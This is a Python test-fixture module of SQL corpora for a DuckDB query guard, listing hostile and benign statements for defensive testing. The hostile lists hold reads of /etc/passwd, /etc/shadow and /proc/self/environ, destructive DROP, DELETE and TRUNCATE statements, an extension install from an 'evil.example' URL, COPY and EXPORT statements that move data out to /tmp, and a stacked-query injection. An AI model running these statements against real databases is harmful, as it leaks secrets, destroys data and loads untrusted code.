"""Hostile and benign SQL corpora for the guard tests (guard and locked engine must both stop the hostile ones)."""

# ruff: noqa: E501

from __future__ import annotations

READERS = [
    "read_csv('{p}')",
    "read_csv_auto('{p}')",
    "read_parquet('{p}')",
    "parquet_scan('{p}')",
    "read_json('{p}')",
    "read_json_auto('{p}')",
    "read_text('{p}')",
    "read_blob('{p}')",
    "glob('{p}')",
    "sniff_csv('{p}')",
    "read_ndjson('{p}')",
    "parquet_metadata('{p}')",
    "read_json_objects('{p}')",
]
PATHS = ["/etc/passwd", "/proc/self/environ", "https://example.com/x.csv", "s3://bucket/key.parquet"]
POSITIONS = [
    "SELECT * FROM {f}",
    "WITH x AS (SELECT * FROM {f}) SELECT count(*) FROM x",
]

FILE_READS = [pos.format(f=r.format(p=p)) for r in READERS for p in PATHS for pos in POSITIONS]

WRITES = [
    "CREATE TABLE gold.evil AS SELECT 1 AS x",
    "INSERT INTO gold.series_values VALUES ('x', DATE '2000-01-01', 1.0)",
    "INSERT INTO gold.series_catalog SELECT * FROM gold.series_catalog",
    "UPDATE gold.series_values SET value = 0",
    "UPDATE gold.series_values SET value = -value WHERE series_id = 'test.output'",
    "DELETE FROM gold.series_values",
    "DELETE FROM gold.series_values WHERE ts < DATE '2005-01-01'",
    "DROP TABLE gold.series_values",
    "DROP TABLE IF EXISTS gold.series_catalog",
    "DROP SCHEMA gold CASCADE",
    "ALTER TABLE gold.series_values ADD COLUMN z INTEGER",
    "ALTER TABLE gold.series_values RENAME TO gone",
    "CREATE VIEW gold.v AS SELECT 1 AS x",
    "CREATE OR REPLACE VIEW gold.series_values AS SELECT 1 AS x",
    "CREATE MACRO gold.m(a) AS a",
    "CREATE SEQUENCE gold.s",
    "CREATE SCHEMA evil",
    "CREATE TYPE gold.mood AS ENUM ('a', 'b')",
    "CREATE INDEX idx ON gold.series_values (ts)",
    "TRUNCATE gold.series_values",
    "COMMENT ON TABLE gold.series_values IS 'pwned'",
    "INSERT INTO gold.series_values BY NAME SELECT * FROM gold.series_values",
    "WITH x AS (INSERT INTO gold.series_values VALUES ('a', DATE '2000-01-01', 1) RETURNING *) SELECT * FROM x",
    "WITH d AS (DELETE FROM gold.series_values RETURNING *) SELECT count(*) FROM d",
    "SELECT * INTO gold.copy FROM gold.series_values",
    "CREATE TABLE gold.t2 (a INTEGER)",
]

CONFIG = [
    "SET threads = 8",
    "SET memory_limit = '100GB'",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "SET allow_unsigned_extensions = true",
    "SET GLOBAL threads = 16",
    "RESET threads",
    "PRAGMA threads = 4",
    "PRAGMA memory_limit = '50GB'",
    "SET autoload_known_extensions = true",
]

EXTENSIONS = [
    "INSTALL httpfs",
    "LOAD httpfs",
    "FORCE INSTALL httpfs",
    "INSTALL 'https://evil.example/x.duckdb_extension'",
    "LOAD '/tmp/evil.duckdb_extension'",
    "INSTALL spatial FROM community",
]

EXFILTRATION = [
    "COPY gold.series_values TO '/tmp/covary-out.csv'",
    "COPY (SELECT * FROM gold.series_catalog) TO '/tmp/covary-out.parquet' (FORMAT parquet)",
    "COPY gold.series_values FROM '/etc/passwd'",
    "EXPORT DATABASE '/tmp/covary-export'",
    "IMPORT DATABASE '/tmp/covary-export'",
    "ATTACH '/tmp/covary-evil.db' AS evil",
    "ATTACH 'https://example.com/db.duckdb' AS remote",
    "CREATE SECRET (TYPE s3, KEY_ID 'k', SECRET 's')",
    "SELECT * FROM read_csv(['/etc/passwd', '/etc/shadow'])",
]

HOSTILE = FILE_READS + WRITES + CONFIG + EXTENSIONS + EXFILTRATION
"""Blocked by the guard AND failing on the locked engine with the guard off (defence in depth)."""

GUARD_ONLY = [
    "SELECT * FROM query('SELECT 42')",
    "SELECT * FROM query_table('gold.series_values')",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_tables()",
    "SELECT * FROM information_schema.tables",
    "SELECT current_setting('threads')",
    "CALL pragma_version()",
    "CHECKPOINT",
    "VACUUM",
    "CREATE TEMP TABLE t AS SELECT 1",
    "SELECT 1; SELECT 2",
    "SELECT 1; DROP TABLE gold.series_values",
    "PRAGMA database_list",
    "BEGIN TRANSACTION",
    "DESCRIBE gold.series_values",
    "SHOW TABLES",
    "SUMMARIZE gold.series_values",
    "SELECT * FROM bronze.macro_raw",
    "SELECT * FROM series_values",
    "SELECT * FROM memory.main.x",
    "SELECT getenv('HOME')",
    "SELECT * FROM pragma_table_info('gold.series_values')",
]
"""Statements the engine would run (read-only but revealing or off-policy): only the guard stops them."""

BENIGN = [
    "SELECT * FROM gold.series_values",
    "SELECT series_id, count(*) AS n FROM gold.series_values GROUP BY 1 ORDER BY 1",
    "SELECT series_id, avg(value), min(value), max(value), stddev_samp(value) FROM gold.series_values GROUP BY ALL ORDER BY 1",
    "SELECT date_trunc('year', ts) AS y, avg(value) FROM gold.series_values WHERE series_id = 'test.output' GROUP BY 1 ORDER BY 1",
    "SELECT year(ts) AS y, quarter(ts) AS q, value FROM gold.series_values WHERE series_id = 'test.jobless' ORDER BY ts",
    "SELECT strftime(ts, '%Y-%m') AS m, value FROM gold.series_values ORDER BY ts, series_id LIMIT 20",
    "WITH a AS (SELECT ts, value FROM gold.series_values WHERE series_id = 'test.output'), b AS (SELECT ts, value FROM gold.series_values WHERE series_id = 'test.follower') SELECT corr(a.value, b.value) FROM a JOIN b USING (ts)",
    "SELECT series_id, ts, value - lag(value) OVER (PARTITION BY series_id ORDER BY ts) AS d FROM gold.series_values ORDER BY 1, 2",
    "SELECT series_id, ts, avg(value) OVER (PARTITION BY series_id ORDER BY ts ROWS BETWEEN 3 PRECEDING AND CURRENT ROW) AS ma FROM gold.series_values ORDER BY 1, 2",
    "SELECT series_id, ts, row_number() OVER (PARTITION BY series_id ORDER BY value DESC) AS r FROM gold.series_values QUALIFY r <= 2 ORDER BY 1, 3",
    "SELECT c.domain, count(*) FROM gold.series_catalog c JOIN gold.series_values v USING (series_id) GROUP BY 1 ORDER BY 1",
    "SELECT * FROM gold.series_catalog WHERE description ILIKE '%rate%'",
    "SELECT * FROM gold.series_catalog WHERE series_id IN (SELECT DISTINCT series_id FROM gold.series_values WHERE value > 100)",
    "SELECT series_id FROM gold.series_catalog WHERE EXISTS (SELECT 1 FROM gold.series_values v WHERE v.series_id = gold.series_catalog.series_id)",
    "SELECT CASE WHEN value > 100 THEN 'high' WHEN value > 10 THEN 'mid' ELSE 'low' END AS band, count(*) FROM gold.series_values GROUP BY 1 ORDER BY 1",
    "SELECT series_id FROM gold.series_catalog UNION SELECT DISTINCT series_id FROM gold.series_values ORDER BY 1",
    "SELECT series_id FROM gold.series_catalog EXCEPT SELECT 'test.output' ORDER BY 1",
    "SELECT series_id FROM gold.series_catalog INTERSECT SELECT series_id FROM gold.series_values ORDER BY 1",
    "SELECT round(avg(value), 2) AS a, median(value) AS med, quantile_cont(value, 0.9) AS p90 FROM gold.series_values",
    "SELECT count(*) FILTER (WHERE value > 50) AS big, count(*) AS total FROM gold.series_values",
    "SELECT coalesce(unit, 'n/a') AS unit, upper(domain), length(description) FROM gold.series_catalog ORDER BY 1, 2, 3",
    "SELECT * FROM range(10) t(i)",
    "SELECT i * 2 AS j FROM generate_series(1, 5) t(i)",
    "SELECT unnest([1, 2, 3]) AS x",
    "SELECT list(series_id ORDER BY series_id) FROM gold.series_catalog",
    "SELECT string_agg(series_id, ',' ORDER BY series_id) FROM gold.series_catalog",
    "SELECT regexp_replace(series_id, '^test\\.', '') AS short FROM gold.series_catalog ORDER BY 1",
    "SELECT split_part(series_id, '.', 2) AS code FROM gold.series_catalog ORDER BY 1",
    "SELECT cast(value AS INTEGER) AS v FROM gold.series_values ORDER BY ts, series_id LIMIT 5",
    "SELECT try_cast('x' AS INTEGER) AS n",
    "SELECT ts + INTERVAL 1 MONTH AS next_month FROM gold.series_values ORDER BY ts LIMIT 3",
    "SELECT date_diff('day', min(ts), max(ts)) FROM gold.series_values",
    "SELECT arg_max(series_id, value) FROM gold.series_values",
    "SELECT series_id, regr_slope(value, epoch(ts)) FROM gold.series_values GROUP BY 1 ORDER BY 1",
    "(SELECT 1 AS x) UNION ALL (SELECT 2) ORDER BY x",
    "SELECT * FROM (SELECT series_id, max(value) AS m FROM gold.series_values GROUP BY 1) s WHERE m > 10 ORDER BY 1",
    "SELECT series_id, value FROM gold.series_values ORDER BY value DESC LIMIT 3 OFFSET 1",
    "FROM gold.series_catalog SELECT series_id ORDER BY 1",
    "SELECT greatest(1, 2, 3), least(1, 2), abs(-1), sqrt(16), ln(exp(1)), pow(2, 10)",
    "SELECT 'it''s' AS quoted, NULL IS NULL AS t, 1 BETWEEN 0 AND 2 AS b",
    "SELECT series_id, bool_and(value > 0) FROM gold.series_values GROUP BY 1 ORDER BY 1",
    "SELECT max(ts) FILTER (WHERE series_id = 'test.jobless') FROM gold.series_values",
]
